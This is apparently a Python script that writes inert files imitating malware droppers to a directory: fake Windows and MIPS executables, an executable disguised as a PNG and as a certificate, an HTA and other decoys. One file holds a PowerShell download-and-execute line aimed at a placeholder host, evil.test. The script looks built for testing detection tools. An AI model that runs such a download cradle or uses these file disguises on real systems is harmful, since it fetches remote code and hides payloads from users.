"""Write harmless files in the shape of malware droppers. Usage: dropper.py DIRECTORY."""

import base64
import random
import struct
import sys
from pathlib import Path


def tiny_exe() -> bytes:
    """Return a file that begins as a Windows program does (MZ, PE) and holds no code at all."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    message = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(stub), b"\0")
    return stub + message + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0, 0x102) + bytes(4096)


def tiny_elf() -> bytes:
    """Return a 32-bit big-endian MIPS ELF header and nothing to run."""
    return b"\x7fELF\x01\x02\x01" + bytes(9) + struct.pack(">HHI", 2, 8, 1) + bytes(512)


def main() -> None:
    """Write the files to the directory named on the command line."""
    root = Path(sys.argv[1])
    program = tiny_exe()
    files = {
        "setup.exe": program,
        "logo.png": program,
        "mips": tiny_elf(),
        "update.ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://files.evil.test/next.ps1')\r\n",
        "update.txt": b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(program) + b"-----END CERTIFICATE-----\n",
        "invoice.hta": b"<html><script language='VBScript'>MsgBox \"lab\"</script></html>\r\n",
        "template.dotm": b"PK\x03\x04" + bytes(200),
        "install.sh": b"#!/bin/sh\necho lab only\n",
        "payload.bin": random.Random(3).randbytes(3000),
        "raw/Ab3dE9": base64.b64encode(program),
    }
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)


if __name__ == "__main__":
    main()
